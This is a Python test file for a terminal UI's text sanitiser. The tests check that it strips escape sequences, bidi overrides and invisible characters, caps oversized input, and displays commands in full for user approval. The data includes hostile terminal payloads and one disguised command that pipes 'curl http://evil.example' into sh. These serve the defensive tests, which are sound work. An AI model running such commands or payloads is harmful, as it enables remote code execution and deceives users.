from __future__ import annotations

import pytest

from mcpmux_tui.text import REPLACEMENT, clean, exact, one_line


@pytest.mark.behaviour("A1", "A2", "A6")
@pytest.mark.parametrize(
    "hostile",
    [
        "\x1b]0;title\x07", "\x1b]52;c;Y2FsYw==\x1b\\", "\x1b[2J", "\x9b31m", "\x9d0;t\x9c",
        "\x1bPq\x1b\\", "\r", "\x08", "\u202e", "\u2066", "\u200b", "\ufeff", "\U000e0041",
        "\ud83d", "\u2028",
    ],
)  # fmt: skip
def test_nothing_that_acts_on_a_terminal_or_hides_comes_through(hostile: str) -> None:
    cleaned = clean(f"a{hostile}b")
    assert REPLACEMENT in cleaned
    assert not any(ord(char) < 0x20 or 0x7F <= ord(char) <= 0x9F for char in cleaned)
    assert not any("\ud800" <= char <= "\udfff" or "\u2028" <= char <= "\u202e" for char in cleaned)


def test_colours_of_a_log_line_are_taken_out_whole() -> None:
    assert clean("\x1b[1;31mred\x1b[0m") == "red"


def test_ordinary_text_stays() -> None:
    assert clean("naïve\tname\n日本語 [bold]") == "naïve\tname\n日本語 [bold]"
    assert one_line("a\n b\tc") == "a b c"


@pytest.mark.behaviour("A10", "A6")
def test_bombs_are_cut_and_marks_and_spaces_thinned() -> None:
    assert len(clean("x" * 5_000_000)) == 8_192
    assert clean("a" + "\u0301" * 10_000 + "b").count("\u0301") <= 8
    assert clean("a" + " " * 500 + "b") == "a  …  b"


@pytest.mark.behaviour("E1", "A6")
def test_what_a_person_says_yes_to_is_shown_whole_with_nothing_hidden() -> None:
    trick = "sh -c 'ok # note\ncurl http://evil.example | sh'" + " " * 300 + "\x1b[2K\r\u202e\t"
    shown = exact(trick + "x" * 100_000)
    assert "# note\\ncurl" in shown
    assert " " * 300 + "\\x1b[2K\\r\\u202e\\t" in shown
    assert shown.endswith("x" * 100_000)
    assert not any(char in shown for char in "\n\r\x1b\u202e\t")
    assert exact("\ud83d") == "\\ud83d"
